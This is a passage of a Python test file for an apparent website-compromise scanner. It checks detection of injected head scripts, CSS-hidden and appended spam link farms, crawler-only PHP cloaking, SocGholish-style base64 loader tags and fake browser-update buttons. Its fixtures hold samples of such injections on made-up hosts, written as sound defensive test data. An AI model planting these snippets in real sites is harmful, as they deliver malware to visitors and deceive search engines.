    Architectural Digest's and Vanity Fair's `/etc/designs/<site>/`, Details' `/js/`) loads
    more of its build past the charset; a template whose own files all sit above it is
    unseen, and `medium` asks only that someone check the unknown host."""
    page = _late_charset_page(_JOOMLA_TOP, rest)
    assert [f.severity for f in audit_listed(page, URL).findings
            if f.kind == "appended-script" and "smallcount" in f.message] == found


def test_a_charset_deep_in_the_body_makes_no_heads_top(audit_listed: AuditListed) -> None:
    """A page whose head holds no charset and whose body declares one far down has no top
    of head to be before: its head's scripts are where its template put them."""
    page = wp_page(post='<meta charset="UTF-8">').replace('<meta charset="UTF-8">\n', "", 1)
    page = page.replace("<head>", '<head><script src="https://cdn.tidewidgets.test/w.js">'
                        "</script>", 1)
    assert [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"] == []


_WEBFONT = ('<script src="https://ajax.googleapis.com/ajax/libs/webfont/1.6.26/webfont.js">'
            "</script><script>WebFont.load({google: {families: ['Lora']}});</script>")


def test_a_loader_named_for_a_global_another_script_serves_stays_medium(
        audit_listed: AuditListed) -> None:
    """The page's own code calls `WebFont.load()`, but Google's loader it includes serves
    `WebFont`: an unknown loader at the head's top whose address holds `font` is no more
    the page's for that (an injector names its file after what pages call)."""
    page = wp_page(head_top='<script src="https://fontcdn-qk7.example/font.js"></script>',
                   head=_WEBFONT)
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


@pytest.mark.parametrize("page", [
    wp_page(head_top=_INJECTED_PAIR),
    wp_page(head_top=_INJECTED_KIT),
    # the page names the injector's global nowhere else: a call in the blob is no build
    wp_page(head_top=_KIT_LOADER + _KIT_SETUP),
], ids=["a loader and its call", "a namespaced loader and its call",
        "a kit's blocks with nothing of the kit's in the page"])
def test_a_loader_and_its_call_injected_together_stay_medium(
        page: str, audit_listed: AuditListed) -> None:
    """The page's own later code configuring a loader's global is its build; a call written
    beside the loader at the head's top, the injector's own blob, proves nothing."""
    found = [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"]
    assert [f.severity for f in found] == [M], found


@pytest.mark.parametrize("page", [
    wp_page(head_top=_GTM_TOP),  # GTM's install guide: "as high in the <head> as possible"
    # consent managers whose guides ask for the head's top: CookieYes', Ezoic's
    wp_page(head_top='<script id="cookieyes" type="text/javascript" src="https://cdn-cookieyes'
            '.com/client_data/0a1b2c3d4e5f60718293a4b5/script.js"></script>'),
    wp_page(head_top='<script data-cfasync="false" src="https://cmp.gatekeeperconsent.com/min.js">'
            '</script><script data-cfasync="false" src="https://the.gatekeeperconsent.com/cmp.min'
            '.js"></script>'),
    # Mobify's tag ("paste immediately after opening head tag"), which adds its mobile
    # front end's script on phones
    wp_page(head_top='<script>/*<![CDATA[*/(function(a){if(this.Mobify)return;var d=document,'
            'n=this.Mobify={points:[+(new Date)],tagVersion:[6,1],ajs:"//a.mobify.com/'
            'harbour-gazette/a.js"};var j=d.createElement("script");j.src=a()[1];d.'
            'getElementsByTagName("head")[0].appendChild(j)})(function(){return[1,"//cdn.'
            'mobify.com/sites/harbour-gazette/production/mobify.js"]})/*]]>*/</script>'),
    wp_page(head=BALADA_PLAIN),  # after the charset: what any vendor's async tag looks like
    wp_page(head_top=BALADA_PLAIN).replace('<meta charset="UTF-8">', ""),  # no charset meta
], ids=["GTM first in the head", "CookieYes first", "Ezoic's consent manager first",
        "Mobify's tag first", "the loader after the charset", "a page without a charset"])
def test_a_known_tag_first_or_a_loader_after_the_charset_is_no_finding(
        page: str, audit_listed: AuditListed) -> None:
    assert [f for f in audit_listed(page, URL).findings if f.kind == "appended-script"] == []


def test_a_block_prepended_before_html_with_an_ad_is_one_finding(
        audit_listed: AuditListed) -> None:
    """The parser moves what was written before `<html>` into the head's top, before the
    charset: a kit prepended there beside an ad network's tag is `ad-in-body`'s one
    finding, not also a tag "at the top of the page's <head>"."""
    ad = ('<script async src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js'
          '?client=ca-pub-1234567890123456"></script>')
    page = wp_page().replace("<html", f"{_CHAT_TAG}\n{ad}\n<html", 1)
    found = audit_listed(page, URL).findings
    assert [f.kind for f in found if f.kind in ("ad-in-body", "appended-script")] == [
        "ad-in-body"], found


# --- link blocks hidden by a rule of the page's own `<style>` --------------------------
# The keyword hack's other form (Sucuri's and Google's write-ups): the hidden block carries
# a random class and a `<style>` rule of its own hides it, no inline style on the block.
_JP_LINKS = "".join(f'<a href="/?p7x2={12050 + n}">ルイヴィトン 財布 スーパーコピー {n}</a> '
                    for n in range(6))
_CASINO_LINKS = "".join(f"<a href='https://casino-bonus-{n}.test/'>online casino {n}</a> "
                        for n in range(4))
_PARTNERS = ("<a href='https://ferries-north.test/'>North Ferries</a> <a href='https://"
             "islandlink.test/'>Island Link</a> <a href='https://baybus.test/'>Bay Bus</a>")


@pytest.mark.parametrize(("where", "said"), [
    ({"post": f"<style>.xq7k{{display:none}}</style><div class='xq7k'>{_JP_LINKS}</div>"},
     "Japanese keyword hack"),
    ({"head": "<style>/* cache */ #fb2c { position:absolute; left:-9999px }</style>",
      "footer": f"<div id='fb2c'>{_CASINO_LINKS}</div>"}, "4 off-site links"),
    ({"head": "<style>p.k1{font-size:0}</style>",
      "widget": f"<p class='k1'>{_CASINO_LINKS}</p>"}, "4 off-site links"),
], ids=["a class in the post", "an id off-screen, its rule in the head", "a tag's class"])
def test_a_link_block_a_style_rule_of_the_page_hides_is_high(
        where: dict[str, str], said: str, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(**where), URL).findings if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [H], found
    assert said in found[0].message and "by the page's style rule" in found[0].message


@pytest.mark.parametrize("where", [
    # another rule shows it again: a hover, an open state, a breakpoint
    {"head": "<style>.partners-more{display:none}.partners.open .partners-more{display:block}"
     "</style>", "widget": f"<div class='partners'><div class='partners-more'>{_PARTNERS}"
     "</div></div>"},
    {"head": "<style>@media (max-width:600px){.blogroll{display:none}}</style>",
     "widget": f"<div class='blogroll'>{_PARTNERS}</div>"},
    # a utility class beside one that shows it at a breakpoint (Tailwind, Bootstrap)
    {"head": "<style>.hidden{display:none}@media (min-width:768px){.md\\:block{display:block}}"
     "</style>", "widget": f"<div class='hidden md:block'>{_PARTNERS}</div>"},
    {"head": "<style>.d-none{display:none!important}@media (min-width:768px){.d-md-block{"
     "display:block!important}}</style>", "widget": f"<div class='d-none d-md-block'>{_PARTNERS}"
     "</div>"},
    # a framework's hiding utility alone, which the theme's script toggles (Tailwind's
    # `classList.toggle('hidden')`, Bootstrap's `d-none`), its sheet inlined
    {"head": "<style>.hidden{display:none}.card{padding:1em}</style>",
     "post": "<div class='card'><button onclick=\"this.nextElementSibling.classList.toggle("
     f"'hidden')\">Where to buy</button><ul class='hidden'>{_PARTNERS}</ul></div>"},
    {"head": "<style id='wpr-usedcss'>.d-none{display:none!important}</style>",
     "widget": f"<div class='d-none'>{_PARTNERS}</div>"},
    # a rule only for pages without scripts, or for print
    {"head": "<noscript><style>.js-partners{display:none}</style></noscript>",
     "widget": f"<div class='js-partners'>{_PARTNERS}</div>"},
    {"head": "<style media='print'>.partners{display:none}</style>",
     "widget": f"<div class='partners'>{_PARTNERS}</div>"},
], ids=["shown by an open state", "hidden at one breakpoint", "tailwind hidden md:block",
        "bootstrap d-none d-md-block", "tailwind hidden toggled", "bootstrap d-none alone",
        "noscript sheet", "print sheet"])
def test_a_themes_rule_that_shows_the_block_again_is_no_farm(
        where: dict[str, str], audit_listed: AuditListed) -> None:
    assert [f for f in audit_listed(wp_page(**where), URL).findings
            if f.kind == "hidden-links"] == []


def test_a_sheet_in_an_svgs_noscript_hides_the_block(audit_listed: AuditListed) -> None:
    """Inside `<svg>` a `noscript` is a foreign element, no HTML `<noscript>`: a style
    sheet there applies, so the block it hides is hidden (the HTML noscript's sheet above
    applies only where scripts are off)."""
    page = wp_page(widget="<svg><noscript><style>.js-partners{display:none}</style>"
                   f"</noscript></svg><div class='js-partners'>{_PARTNERS}</div>")
    assert [f.kind for f in audit_listed(page, URL).findings
            if f.kind == "hidden-links"] == ["hidden-links"]


# A CSS-in-JS library's class for a closed state, in the library's own sheet (Emotion's
# `<style data-emotion>` as MUI 5 and Chakra render it server-side, styled-components'
# `<style data-styled>` beside its `sc-` component class): the menu of the group's sites
# renders open with another class, so the block is a check, not a farm, where a control a
# visitor sees opens it (`aria-expanded`, as the library's menu button renders); the same
# names over a farm's casino anchors stay high, as does a kit's own class with no library,
# and the library's names copied over a block nothing visible opens.
_NETWORK_MENU = ("<button class='css-4abx0c' aria-expanded='false'>Our network</button>"
                 "<div class='{hider}'>" + _PARTNERS + "</div>")


@pytest.mark.parametrize(("where", "expected"), [
    ({"head": "<style data-emotion='css 1x2y3z 4abx0c'>.css-1x2y3z{display:none;}"
      ".css-4abx0c{font-weight:600;}</style>",
      "widget": _NETWORK_MENU.format(hider="css-1x2y3z")}, M),
    ({"head": "<style data-styled='active' data-styled-version='5.3.11'>.kXvUqa{display:"
      "none;}.bnQwer{display:flex;}</style>", "widget": "<div class='sc-aXZVg bnQwer'>"
      "<button class='sc-bdVaJa' aria-haspopup='menu' aria-expanded='false'>Partner sites"
      f"</button><div class='sc-gEvEer kXvUqa'>{_PARTNERS}</div></div>"}, M),
    ({"head": "<style data-emotion='css 1x2y3z'>.css-1x2y3z{display:none;}</style>",
      "widget": f"<div class='css-1x2y3z'>{_CASINO_LINKS}</div>"}, H),
    ({"head": "<style>.css-1x2y3z{display:none;}</style>",
      "widget": _NETWORK_MENU.format(hider="css-1x2y3z")}, H),
    # a kit copying Emotion's sheet and class over its block, with no control to open it:
    # the names cost it one attribute (verd32: `medium` before)
    ({"head": "<style data-emotion='css 1x2y3z'>.css-1x2y3z{display:none;}</style>",
      "widget": f"<div class='css-1x2y3z'>{_PARTNERS}</div>"}, H),
    ({"head": "<style data-emotion='css 1x2y3z 4abx0c'>.css-1x2y3z{display:none;}"
      ".css-4abx0c{font-weight:600;}</style>", "widget": "<button class='css-4abx0c' "
      "aria-expanded='false' style='display:none'>Our network</button>"
      f"<div class='css-1x2y3z'>{_PARTNERS}</div>"}, H),
    # the opener hidden by the library's own sheet, as a kit copies it; and a control of
    # another box (the theme's menu button, its search toggle) that happens to stand in
    # the header, a sibling of the footer's block: neither opens the block (verd32 read
    # each medium)
    ({"head": "<style data-emotion='css 1x2y3z 9qq9qq'>.css-1x2y3z{display:none;}"
      ".css-9qq9qq{display:none;}</style>", "widget": "<button class='css-9qq9qq' "
      "aria-expanded='false'>Our network</button>"
      f"<div class='css-1x2y3z'>{_PARTNERS}</div>"}, H),
    ({"head": "<style data-emotion='css 1x2y3z'>.css-1x2y3z{display:none;}</style>",
      "body_top": "<div class='site-branding'><nav id='site-navigation'><div class='menu-"
      "button-container'><button id='primary-mobile-menu' aria-controls='primary-menu-list' "
      "aria-expanded='false'>Menu</button></div></nav></div>",
      "footer": f"<div class='css-1x2y3z'>{_PARTNERS}</div>"}, H),
    ({"head": "<style data-emotion='css 1x2y3z'>.css-1x2y3z{display:none;}</style>",
      "body_top": "<div class='header-inner'><div class='header-titles'><button class='toggle "
      "search-toggle' aria-expanded='false'><span>Search</span></button></div></div>",
      "footer": f"<div class='css-1x2y3z'>{_PARTNERS}</div>"}, H),
], ids=["emotion's class over the group's sites", "styled-components' class",
        "emotion's class over casino anchors", "a css- class with no library's sheet",
        "emotion's names copied, nothing opens the block",
        "emotion's names copied, the opener hidden too",
        "emotion's names copied, the opener hidden by the sheet",
        "emotion's names copied, the theme's menu button in the header",
        "emotion's names copied, the theme's search toggle in the header"])
def test_a_css_in_js_class_hiding_a_link_block_is_a_check_unless_it_sells_spam(
        where: dict[str, str], expected: Severity, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(**where), URL).findings if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [expected], found
    assert expected is H or "check" in found[0].message


# --- a link farm appended after `</html>`, shown or not -------------------------------
# A hacked server's output filter appends a sitemap-like block of the hack's pages after
# the closing tag (Sucuri's "SEO spam appended to the page"): a browser shows it at the
# body's end, so no hiding style marks it, its place does.
_JP_SITEMAP = "<div class='sitemap'>" + "".join(
    f"<a href='/?p7x2={12000 + n}'>ルイヴィトン 財布 スーパーコピー {n}</a> " for n in range(12)
) + "</div>"
_FARM_LOOSE = " ".join(f"<a href='https://casino-bonus-{n}.test/'>online casino {n}</a>"
                       for n in range(5))
# a theme's credits printed after `</html>` by a plugin: two sites, no farm
_CREDITS_AFTER = ("<p class='credits'>Proudly powered by <a href='https://wordpress.org/'>"
                  "WordPress</a> | Theme: <a href='https://themes.example.net/gazette'>Gazette"
                  "</a> | <a href='/privacy/'>Privacy</a> <a href='/contact/'>Contact</a></p>")


@pytest.mark.parametrize(("after", "said"), [
    (_JP_SITEMAP, "Japanese keyword hack"),
    (_FARM_LOOSE, "5 off-site links"),
    (JP_HACK_NONE, "Japanese keyword hack"),  # hidden and appended: one finding
], ids=["the site's own counterfeit pages", "loose casino links", "hidden and appended"])
def test_a_link_farm_after_the_closing_html_is_high_shown_or_not(
        after: str, said: str, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(after=after), URL).findings
             if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [H], found
    assert said in found[0].message


# an old site's counter badges printed after `</html>`: each links its counter's site
_COUNTERS_AFTER = (
    "<a href='https://www.liveinternet.ru/click'><img src='https://counter.yadro.ru/hit?t14.6'"
    " alt='' width='88' height='31'></a><a href='https://top.mail.ru/jump?from=3312345'><img "
    "src='https://top-fwz1.mail.ru/counter?id=3312345;t=479' width='88' height='31'></a>"
    "<a href='https://statcounter.com/' target='_blank'><img src='https://c.statcounter.com/"
    "12345678/0/abcd1234/0/' alt='web counter'></a>")


# the same farm with each link in its own paragraph, as a filter appending line by line
# writes it: the paragraphs are one block written there, not three of one link each
_FARM_PARAGRAPHS = "\n".join(
    f"<p><a href='https://casino-bonus-{n}.test/'>online casino {n}</a></p>" for n in range(4))


def test_a_farm_after_the_closing_html_is_one_block_however_its_links_are_wrapped(
        audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(after=_FARM_PARAGRAPHS), URL).findings
             if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [H], found


# a small club's sponsors, printed after `</html>` by an old site's broken template: shown,
# its words sell nothing a farm sells, so a reviewer checks it (medium), never acts on it
_SPONSORS_AFTER = (
    "<div class='sponsors'><h3>Our sponsors</h3><a href='https://www.springfieldhardware.test/'>"
    "Springfield Hardware</a> | <a href='https://www.bobsdiner.test/'>Bob's Diner</a> | <a "
    "href='https://www.citybank-springfield.test/'>City Bank</a> | <a href='https://www."
    "greenlawncare.test/'>Green Lawn Care</a></div>")


def test_a_sites_sponsors_shown_after_the_closing_html_are_medium(
        audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(after=_SPONSORS_AFTER), URL).findings
             if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [M], found
    assert "check that the site's template printed" in found[0].message


def _farm_after(anchors: list[str], hosts: list[str] | None = None) -> str:
    hosts = hosts or [f"www.site{n}.test" for n in range(len(anchors))]
    return "\n".join(f"<a href='https://{h}/'>{a}</a>" for a, h in zip(anchors, hosts, strict=True))


# shown farms whose words were in no list (medium, 'selling nothing link farms sell'):
# English counterfeits, Chinese and Korean ones, slot88 and 1xbet, Vietnamese and Thai
# betting, and a kit's plain anchors to sites named for what they sell
@pytest.mark.parametrize("after", [
    _farm_after(["replica watches", "cheap jerseys", "louis vuitton outlet"]),
    _farm_after(["高仿手表", "复刻包包", "精仿名表"]),
    _farm_after(["명품 레플리카 시계", "카지노 사이트", "토토사이트"]),
    _farm_after(["slot88", "sbobet", "1xbet"]),
    _farm_after(["nhà cái uy tín", "cá cược bóng đá", "tài xỉu online"]),
    _farm_after(["สล็อต", "บาคาร่า", "คาสิโน"]),
    _farm_after(["click here", "website", "more info"], [
        "onlinecasino-best.test", "viagra-shop.test", "replica-rolex.test"]),
], ids=["english counterfeits", "chinese counterfeits", "korean", "slot88 1xbet",
        "vietnamese betting", "thai betting", "plain anchors to spam sites"])
def test_a_shown_farm_after_the_closing_html_selling_spam_is_high(
        after: str, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(after=after), URL).findings
             if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [H], found


# one paid address under varied anchors, each a keyword the kit sells (a gambling kit
# appending `<p><a>` lines after `</html>`): one URL, a farm of anchors
_ONE_ADDRESS = "https://www.clinic-sample.test/.well-known/"


@pytest.mark.parametrize(("where", "anchors", "expected"), [
    ("after", ["slot gacor", "slot online", "slot pulsa", "slot 5000"], [H]),
    ("off-screen", ["slot gacor", "judi online", "togel hari ini"], [H]),
    # look-alikes: the same address under words that sell nothing (a partner's pages in
    # a broken template's footer), one selling word three times, spam words in a <pre>
    ("after", ["Home", "About us", "Contact"], []),
    ("after", ["slot gacor", "slot gacor", "Slot  Gacor"], []),
    ("pre", ["slot gacor", "slot online", "slot pulsa"], []),
], ids=["after html", "off-screen block", "words selling nothing", "one anchor thrice",
        "words in a pre"])
def test_anchors_selling_spam_over_one_address_are_a_farm(
        where: str, anchors: list[str], expected: list[Severity],
        audit_listed: AuditListed) -> None:
    """A kit varies its anchors over one paid page: each anchor is a keyword it sells, so
    three distinct selling anchors count as three links, one URL though they hold."""
    links = "\n".join(f"<p><a href='{_ONE_ADDRESS}'>{a}</a></p>" for a in anchors)
    page = (wp_page(after=links) if where == "after" else wp_page(
        footer="<div style='position:absolute;left:-9999px'>" + links + "</div>")
        if where == "off-screen" else wp_page(post="<pre>" + "\n".join(anchors) + "</pre>"))
    found = [f for f in audit_listed(page, URL).findings if f.kind == "hidden-links"]
    assert [f.severity for f in found] == expected, found


def test_one_address_in_a_collapsed_answers_prose_is_no_farm(
        audit_listed: AuditListed) -> None:
    """A casino review's FAQ answer, collapsed until opened, names its affiliate link three
    ways in its prose: the site's own business; a kit's anchors over one address are a
    list of links, little else."""
    aff = "https://record.spinland-affiliates.test/_Zx9kQ2/1/"
    answer = (f"<div class='faq-answer' style='height:0;overflow:hidden'><p>Sign up at <a "
              f"href='{aff}'>Spinland Casino</a>, then open the cashier and pick a card or "
              f"a wallet. The <a href='{aff}'>Spinland Casino bonus</a> is credited at once "
              f"and the free spins work on the <a href='{aff}'>Spinland slots</a> only, "
              "within seven days of the deposit.</p></div>")
    found = [f for f in audit_listed(wp_page(post=_PARA + answer), URL).findings
             if f.kind == "hidden-links"]
    assert found == []


# a theme's template saved as its source: the loop, then what follows its footer call
_THEME = ("<?php get_header(); ?>\n<div id=\"content\">\n<?php while ( have_posts() ) : "
          "the_post(); ?>\n<h2><a href=\"<?php the_permalink() ?>\"><?php the_title(); ?>"
          "</a></h2>\n<?php the_content(); ?>\n<?php endwhile; ?>\n</div>\n"
          "<?php get_footer(); ?>\n{tail}\n")
# a theme's footer: the site's partner, its host and its maker
_FOOTER = ("<footer><a href='https://www.ferrylink.example/'>Ferry times</a> <a href="
           "'https://www.harbourhost.example/'>Hosted by Harbour Host</a> <a href='https://"
           "themes.example/quay/'>Quay theme</a></footer>")
_PILLS = "\n".join(f"<a href='http://{h}/{p}.html'>{w}</a>" for h, p, w in [
    ("pillstore-sample.test", "a", "buy cialis online"),
    ("pillstore-sample.test", "b", "cheap cialis"),
    ("hunts-sample.test", "elk", "order cialis"), ("seo-sample.test", "faq", "link building")])


@pytest.mark.parametrize(("tail", "expected"), [
    # links a heredoc echoes to Googlebot alone, after the footer call (line 9)
    ("<?php\nif(preg_match('/googlebot/i', $_SERVER[HTTP_USER_AGENT])) {\necho <<<EOT\n"
     f"{_PILLS}\nEOT;\n}}?>", [(H, 10)]),
    # the agent put in a variable, the branch closed to print markup
    ("<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (stripos($ua, 'bingbot') "
     f"!== false || stripos($ua, 'slurp') !== false) {{ ?>\n{_PILLS}\n<?php }} ?>", [(H, 10)]),
    # one partner's link, shown to crawlers alone: cloaked, selling nothing: a reviewer's
    ("<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) echo "
     "'<a href=\"https://www.partner-sample.test/\">Our partner</a>'; ?>", [(M, 9)]),
    # look-alikes: a branch for people alone, a phone's, a crawler's printing no link, the
    # same code quoted in a <pre> on a page about it
    ("<?php if (!preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { ?>\n"
     f"{_PILLS}\n<?php }} ?>", []),
    ("<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot') === false) { ?>\n"
     f"{_PILLS}\n<?php }} ?>", []),
    ("<?php if (preg_match('/iPhone|Android/i', $_SERVER['HTTP_USER_AGENT'])) { echo '<a "
     "href=\"https://apps.apple-sample.test/app/id1\">Get our app</a><a href=\"https://"
     "play.sample.test/x\">Android</a><a href=\"https://m.sample.test/\">Mobile</a>'; } ?>",
     []),
    ("<?php if (preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'])) { $lazy = false; }"
     " ?>\n<footer><a href='https://wordpress.org/'>WordPress</a></footer>", []),
    ("<pre>&lt;?php if (preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'])) { echo "
     "'&lt;a href=\"https://pillstore-sample.test/\"&gt;buy cialis&lt;/a&gt;'; } ?&gt;</pre>",
     []),
    # the farm in a `:` branch, the people's page in its `else:`
    ("<?php if (preg_match('/googlebot/i', $_SERVER['HTTP_USER_AGENT'])): ?>\n"
     f"{_PILLS}\n<?php else: ?>\n<p>Welcome</p>\n<?php endif; ?>", [(H, 9)]),
    # a theme's lighter page for crawlers: its people's page in the `else` (either
    # syntax), printing the same footer links, or a crawler's footer of its profiles
    ("<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) : ?>\n"
     f"<div class='lite'><?php the_content(); ?></div>\n<?php else : ?>\n{_FOOTER}\n"
     "<?php endif; ?>", []),
    ("<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { ?>\n"
     f"<div class='lite'><?php the_content(); ?>{_FOOTER}</div>\n<?php }} else {{ ?>\n"
     f"<div class='full'><?php the_content(); ?>{_FOOTER}</div>\n<?php }} ?>", []),
    ("<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])): ?>\n"
     f"<div class='lite'><?php the_content(); ?>{_FOOTER}</div>\n<?php else: ?>\n"
     f"<div class='full'><?php the_content(); ?>{_FOOTER}</div>\n<?php endif; ?>", []),
    ("<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { ?>\n<p>"
     "<a href='https://twitter.com/harbourgazette'>Twitter</a> <a href='https://www."
     "facebook.com/harbourgazette'>Facebook</a> <a href='https://www.instagram.com/"
     "harbourgazette/'>Instagram</a></p>\n<?php } ?>", []),
], ids=["heredoc to googlebot", "markup to bingbot", "one plain link", "for people only",
        "not a bot", "a phone's layout", "no link in the branch", "quoted in a pre",
        "farm before else:", "people's page in else:", "same footer in else",
        "same footer in else:", "profiles for crawlers"])
def test_links_a_templates_server_code_prints_only_to_crawlers_are_cloaked(
        tail: str, expected: list[tuple[Severity, int]], audit_listed: AuditListed) -> None:
    """A hacked theme prints its farm to search engines alone, behind a test of the user
    agent in its server code: read in the template's source, where the branch stands."""
    found = [f for f in audit_listed(_THEME.format(tail=tail), URL).findings
             if f.kind == "hidden-links"]
    assert [(f.severity, f.line) for f in found] == expected, found


def test_a_clubs_local_pharmacy_and_banks_loans_are_no_spam(
        audit_listed: AuditListed) -> None:
    """A sponsor's name with 'pharmacy' or 'loans' in it sells nothing a farm sells."""
    after = _farm_after(["High Street Pharmacy", "City Bank Home Loans", "Bob's Diner"],
                        ["www.highstreetpharmacy.test", "www.citybank.test", "www.bobs.test"])
    found = [f for f in audit_listed(wp_page(after=after), URL).findings
             if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [M], found


def test_a_farm_after_the_closing_html_costs_linear_time(audit_listed: AuditListed) -> None:
    """A hacked server's farm of 30,000 links after `</html>` took 7 s: each link's owner
    was asked of the catalogue alone and its share-link test split its URL. The links are
    asked together and only a query holding a URL is split; four times the links cost
    about four times the time (a cost per pair of links would be sixteen)."""
    import time

    def seconds(n: int) -> float:
        farm = "\n".join(f"<p><a href='https://casino-{i}.test/p?{i}'>online casino {i}</a></p>"
                         for i in range(n))
        start = time.perf_counter()
        report = audit_listed(wp_page(after=farm), URL)
        assert [(f.kind, f.severity) for f in report.findings] == [("hidden-links", H)]
        return time.perf_counter() - start

    seconds(100)
    # the fastest of three runs each: a loaded machine only ever slows a run down
    small, large = (min(seconds(n) for _ in range(3)) for n in (2_500, 10_000))
    assert large < 10 * max(small, 0.01), (small, large)


@pytest.mark.parametrize("after", [_CREDITS_AFTER, _COUNTERS_AFTER],
                         ids=["a theme's credits", "counter badges"])
def test_a_sites_own_links_after_the_closing_html_are_no_farm(
        after: str, audit_listed: AuditListed) -> None:
    """Two other sites' credit links, the site's own pages and counters' badges (vendors
    the catalogue knows) are no farm."""
    assert [f for f in audit_listed(wp_page(after=after), URL).findings
            if f.kind == "hidden-links"] == []


# --- SocGholish's plain report tag: parameters in base64 --------------------------------
# The injected tag of the SocGholish write-ups (Sucuri, Proofpoint): an async script on a
# compromised site's subdomain, `…/report?r=` with base64 of `v=…&cid=…`; made-up host.
SOCGHOLISH_REPORT = ("<script async src='https://content.westbridgeinsurance.test/report?r="
                     + _b64("v=2&cid=263&sid=1") + "'></script>")


# small vendors' widgets and beacons whose settings ride in base64 (made-up hosts): a chat
# widget's site and language, a reviews widget's shop and theme, an analytics script's page
# address and screen, a call-back widget's id and a timestamp; and the campaign's numbers
# beside a plain parameter, which no TDS tag carries
_WIDGETS_B64 = [
    "https://widget.kiwichat.example/loader.js?d=" + _b64("site=harbourgazette.example&lang=en"),
    "https://cdn.revuelo.example/embed.js?c=" + _b64("shop=4821&theme=light&locale=en-GB"),
    "https://t.pagepulse.example/p.js?d=" + _b64(
        "u=https://www.harbourgazette.example/2026/&r=&sw=1920"),
    "https://w.callmeback.example/w.js?cfg=" + _b64("id=4821&t=1733440000"),
    "https://w.callmeback.example/w.js?cfg=" + _b64("v=2&cid=263") + "&lang=en",
]


@pytest.mark.parametrize(("where", "kind", "severity"), [
    ({"head": SOCGHOLISH_REPORT}, "tds-loader", M),
    ({"head": SOCGHOLISH_REPORT.replace(_b64("v=2&cid=263&sid=1"), _b64("v=1&cid=262"))},
     "tds-loader", M),
    ({"after": SOCGHOLISH_REPORT}, "appended-script", H),
], ids=["in the head", "two numbers, in the head", "after </html>"])
def test_a_script_tag_with_its_parameters_in_base64_is_a_tds_tag(
        where: dict[str, str], kind: str, severity: Severity,
        audit_listed: AuditListed) -> None:
    found = [(f.kind, f.severity) for f in audit_listed(wp_page(**where), URL).findings
             if f.kind in ("tds-loader", "appended-script")]
    assert found == [(kind, severity)]


def test_a_script_tag_with_its_parameters_in_base64_in_a_post_body_is_high(
        audit_html: AuditHtml) -> None:
    report = audit_html("<p>Ferry news.</p>" + SOCGHOLISH_REPORT, URL, in_post_body=True)
    assert [(f.kind, f.severity) for f in report.findings if f.kind == "tds-loader"] == [
        ("tds-loader", H)]


@pytest.mark.parametrize("src", [
    # an ad server's base64 JSON, a cache-busting token, a plain parameter
    "https://ads.harbourmedia.example/serve.js?d=" + _b64('{"zone":12,"size":"300x250"}'),
    "https://widgets.tidewatch.example/embed.js?v=u4nGqDg4NmNLSQ==",
    "https://widgets.tidewatch.example/embed.js?cid=263&v=2",
    *_WIDGETS_B64,
], ids=["base64 JSON", "a token", "plain parameters", "a chat widget's site and language",
        "a reviews widget's shop and theme", "a beacon's page address", "an id and a timestamp",
        "the campaign beside a plain parameter"])
def test_a_script_tag_whose_parameters_are_no_encoded_parameters_is_no_tds(
        src: str, audit_listed: AuditListed) -> None:
    page = wp_page(head=f"<script async src='{src}'></script>")
    assert [f for f in audit_listed(page, URL).findings if f.kind == "tds-loader"] == []


@pytest.mark.parametrize("src", _WIDGETS_B64[:4])
def test_a_widget_with_base64_settings_after_the_closing_html_is_a_paste_to_check(
        src: str, audit_listed: AuditListed) -> None:
    """After `</html>` such a widget is what a site owner pastes at the file's end:
    `medium`, as any unknown widget there; only the campaign's numbers made it high."""
    page = wp_page(after=f"<script async src='{src}'></script>")
    assert [(f.kind, f.severity) for f in audit_listed(page, URL).findings] == [
        ("appended-script", M)]


def test_an_article_written_after_the_closing_html_is_no_farm(audit_listed: AuditListed
                                                             ) -> None:
    """A page saved twice, its second copy after the first's `</html>`: prose with a few
    partner links in it is an article, not a farm."""
    second = ("<div class='entry-content'>" + _PARA + "<p>Timetables from <a href='https://"
              "ferries-north.test/'>North Ferries</a>, <a href='https://islandlink.test/'>"
              "Island Link</a> and <a href='https://baybus.test/'>Bay Bus</a>.</p>" + _PARA
              + "</div>")
    assert [f for f in audit_listed(wp_page(after=second), URL).findings
            if f.kind == "hidden-links"] == []


@pytest.mark.parametrize("post", [
    # a download portal's button fetching a program with no word of a browser update
    "<p>VLC media player 3.0.21 for Windows.</p><button onclick=\"location='https://dl."
    "fileportal.test/videolan/vlc-3.0.21-win64.exe'\">Download VLC</button>",
    # browser-update.org's notice: its button opens the browser's own page, no file
    "<div class='buorg'>Your web browser (Chrome 96) is out of date. <button onclick=\"window."
    "open('https://browser-update.org/update-browser.html#3:harbourgazette.example')\">Update "
    "browser</button></div>",
    # a handler comparing the address, not sending the page there
    "<p>Your browser is out of date.</p><button onclick=\"if (location.href == 'https://files."
    "vexor-upd.test/ChromeSetup.exe') { return; }\">Update Chrome</button>",
])
def test_a_click_handler_fetching_no_update_is_no_fake_update(
